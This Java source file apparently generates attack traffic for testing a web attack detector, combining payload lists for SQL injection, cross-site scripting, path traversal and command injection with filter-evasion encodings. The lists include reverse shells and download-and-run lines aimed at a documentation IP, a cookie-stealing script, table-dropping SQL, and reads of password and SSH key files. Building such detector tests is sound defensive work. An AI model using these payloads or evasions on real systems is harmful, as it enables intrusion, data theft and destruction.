// SPDX-License-Identifier: Apache-2.0
package dev.sluice.detector.attack;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.net.URLEncoder;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/** Attacks as tools and people send them, put together from parts: where the text breaks out, what it does, how it ends and how it is disguised. */
final class AttackVariants {

    private static final String[] BREAKOUTS = {
        "1", "-1", "7'", "x'", "1\"", "1)", "1')", "x'))", "9\")", "", "'", "admin'"
    };

    private static final String[] ENDS = {"", "-- -", "--", "#", "/*", ";--", "-- a", ";%00"};

    private static final String[] BOOLEAN = {
        " or 1=1",
        " and 1=2",
        " or 'a'='a'",
        " and 5>3",
        " or 2 like 2",
        " or true",
        " and 3=3 and 'x'='x'",
        " || 1=1",
        " && 7=7",
        " or not 1=2",
        " and 'abc' like 'a%'",
        " or 1 in (1,2)",
        " and exists(select 1)",
        " or 5 between 1 and 9",
        " xor 1=1",
        " and (select count(*) from users)>0",
        " or length(user())>3",
        " and ascii(mid(version(),1,1))>51",
        " and id is not null",
        " or (select 1)=1",
        " rlike (select 1)",
        " and substring(@@version,1,1)='8'",
        " or 1=1 limit 1",
        " order by 9",
        " group by 3 having 1=1",
        " and (select substr(group_concat(name),1,1) from sqlite_master)='a'",
        " or ''='"
    };

    private static final String[] UNIONS = {
        " union select 1,2,3",
        " union all select null,null,null",
        " union select user(),database(),version()",
        " union select table_name,null from information_schema.tables",
        " union distinct select 1,concat(login,0x3a,hash) from members",
        " union select 1,load_file('/etc/passwd')",
        " union(select 1,2)",
        " union select * from (select 1)a join (select 2)b",
        " union all select name,sql from sqlite_master",
        " union select banner,null from v$version",
        " union select null from dual",
        " intersect select 1",
        " except select 1,2"
    };

    private static final String[] ERRORS = {
        " and extractvalue(1,concat(0x7e,(select database())))",
        " and updatexml(1,concat(0x7e,user()),1)",
        " or (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
        " and 1=convert(int,@@version)",
        " and 1=cast((select version()) as int)",
        " or exp(~(select*from(select user())a))",
        " and 1=ctxsys.drithsx.sn(1,(select user from dual))",
        " and gtid_subset(user(),1)",
        " and json_keys((select user()))",
        " procedure analyse(extractvalue(1,concat(0x3a,version())),1)",
        " and 1=(select 1/0)",
        " and 1=utl_inaddr.get_host_name((select 1 from dual))"
    };

    private static final String[] TIMES = {
        " and sleep(5)",
        " or sleep(5)=0",
        " and if(1=1,sleep(3),0)",
        " and (select*from(select(sleep(9)))a)",
        " or benchmark(9000000,md5(1))",
        " and 1=(select 1 from pg_sleep(5))",
        "; waitfor delay '0:0:5'",
        " and 1=dbms_pipe.receive_message('a',5)",
        "||pg_sleep(5)",
        " and (select case when 1=1 then pg_sleep(5) else 0 end) is null",
        "+sleep(5)+",
        " and randomblob(900000000)",
        "-if(1=1,sleep(5),0)"
    };

    private static final String[] STACKED = {
        "; drop table users",
        "; insert into users values(1,'a')",
        "; update users set role='admin' where id=1",
        "; exec xp_cmdshell 'dir'",
        "; declare @a varchar(9) set @a='x' exec(@a)",
        "; shutdown",
        "; select pg_sleep(4)",
        "; truncate table logs",
        "; create table a(b text)",
        "; copy users to '/tmp/x'",
        "; alter user root identified by 'x'",
        "; exec master..xp_dirtree '//a/b'",
        "; delete from users"
    };

    private static final String[] TRAVERSALS = {
        "../../../etc/passwd",
        "....//....//etc/shadow",
        "/etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "../../../../proc/self/environ",
        "../../WEB-INF/web.xml",
        "/var/log/apache2/access.log",
        "file:///etc/hosts",
        "php://filter/convert.base64-encode/resource=index",
        "../../.env",
        "../.git/config",
        "c:\\windows\\system32\\drivers\\etc\\hosts",
        "/../../../../../boot.ini",
        "..;/manager/html",
        "../../../../../../etc/passwd%00.png",
        "/proc/self/cmdline",
        "../config/database.yml",
        "../../.ssh/id_rsa",
        "..%2f..%2f..%2fetc%2fgroup",
        "..%252f..%252f..%252fetc%252fpasswd",
        "..%c0%af..%c0%afetc/passwd",
        "%2e%2e/%2e%2e/%2e%2e/etc/issue",
        "expect://id",
        "zip://a.zip#b.php"
    };

    private static final String[] COMMANDS = {
        ";id",
        "|id",
        "||whoami",
        "&& cat /etc/passwd",
        "`uname -a`",
        "$(whoami)",
        "; wget http://192.0.2.1/x -O /tmp/x",
        "|nc -e /bin/sh 192.0.2.1 99",
        "; curl http://192.0.2.1/a|sh",
        "& ping -n 3 192.0.2.1",
        "; sleep 5",
        "| type c:\\boot.ini",
        "\nid",
        "; rm -rf /tmp/x",
        "$(curl 192.0.2.1)",
        "; ls -la",
        "|| ping -c 3 192.0.2.1",
        "; bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
        ";{cat,/etc/passwd}",
        ";cat$IFS/etc/passwd",
        ";c'a't /etc/passwd",
        ";/???/c?t /???/p??s??",
        "; python3 -c 'import os'",
        "; php -r 'system(1);'",
        "& net user",
        "| powershell -enc AAAA",
        "() { :;}; /bin/bash -c id",
        "${jndi:ldap://192.0.2.1/a}",
        "{{7*7}}",
        ";echo aWQ=|base64 -d|sh",
        "; nslookup x.example.org",
        "&& dir c:\\"
    };

    private static final String[] SCRIPTS = {
        "<script>alert(1)</script>",
        "\"><script src=//x.example></script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        "'-alert(1)-'",
        "\";alert(1)//",
        "<iframe src=javascript:alert(1)>",
        "<body onload=alert(1)>",
        "<a href=\"javascript:x\">y</a>",
        "\" onmouseover=\"alert(1)",
        "' onfocus=alert(1) autofocus='",
        "<details open ontoggle=alert(1)>",
        "<math><mtext></mtext><script>x</script>",
        "<input onfocus=eval(atob('YQ==')) autofocus>",
        "<video><source onerror=alert(1)>",
        "<object data=data:text/html;base64,PHNj>",
        "<ScRiPt>prompt(1)</ScRiPt>",
        "<img src=1 onerror=\"fetch('//x.example?'+document.cookie)\">",
        "<marquee onstart=alert(1)>",
        "${alert(1)}<b>",
        "</title><script>alert(1)</script>",
        "<style>@import'//x.example';</style>",
        "<base href=//x.example>",
        "<meta http-equiv=refresh content=0;url=//x>",
        "data:text/html,<script>alert(1)</script>",
        "<form action=//x.example><input type=submit>",
        "vbscript:msgbox(1)",
        "<x onclick=alert(1)>y"
    };

    private final Random random;

    AttackVariants(long seed) {
        random = new Random(seed);
    }

    /** Queries with a value that is such an attack, each once as it is and {@code disguised} times disguised. */
    List<String> of(AttackClass attack, int disguised) {
        List<String> values = switch (attack) {
            case SQL_INJECTION -> injections();
            case CROSS_SITE_SCRIPTING -> List.of(SCRIPTS);
            case PATH_TRAVERSAL -> List.of(TRAVERSALS);
            case COMMAND_INJECTION -> commands();
        };
        List<String> queries = new ArrayList<>();
        for (String value : values) {
            boolean encoded = value.indexOf('%') >= 0;
            queries.add("id=" + (encoded ? value : encode(value)));
            for (int i = 0; i < disguised && !encoded; i++) {
                queries.add("id=" + disguise(value, attack == AttackClass.SQL_INJECTION));
            }
        }
        return queries;
    }

    private List<String> injections() {
        List<String> values = new ArrayList<>();
        for (String[] kind : new String[][] {BOOLEAN, UNIONS, ERRORS, TIMES, STACKED}) {
            for (String what : kind) {
                for (int i = 0; i < 4; i++) {
                    values.add(one(BREAKOUTS) + what + one(ENDS).replace("%00", "\0"));
                }
            }
        }
        return values;
    }

    private List<String> commands() {
        List<String> values = new ArrayList<>();
        for (String command : COMMANDS) {
            values.add(command);
            values.add("127.0.0.1" + command);
        }
        return values;
    }

    /** As the tamper scripts of injection tools do it. */
    private String disguise(String value, boolean sql) {
        String text = value;
        switch (random.nextInt(sql ? 8 : 4)) {
            case 0 -> {
                return encode(encode(text));
            }
            case 1 -> {
                return everyByte(text);
            }
            case 2 -> text = mixedCase(text);
            case 3 -> {
                return encode(text).toLowerCase(Locale.ROOT).replace("+", "%20");
            }
            case 4 -> text = text.replace(" ", "/**/");
            case 5 -> text = text.replace(" ", "\n");
            case 6 -> text = text.replace(" ", "/*x*/").toUpperCase(Locale.ROOT);
            default ->
                text = text.replace(" ", "\t")
                        .replace("union", "/*!50000union*/")
                        .replace("select", "/*!select*/");
        }
        return encode(text);
    }

    private String mixedCase(String text) {
        StringBuilder out = new StringBuilder();
        for (char c : text.toCharArray()) {
            out.append(random.nextBoolean() ? Character.toUpperCase(c) : c);
        }
        return out.toString();
    }

    private static String everyByte(String text) {
        StringBuilder out = new StringBuilder();
        for (byte b : text.getBytes(UTF_8)) {
            out.append('%').append(String.format("%02x", b & 0xff));
        }
        return out.toString();
    }

    private String one(String[] of) {
        return of[random.nextInt(of.length)];
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, UTF_8);
    }
}
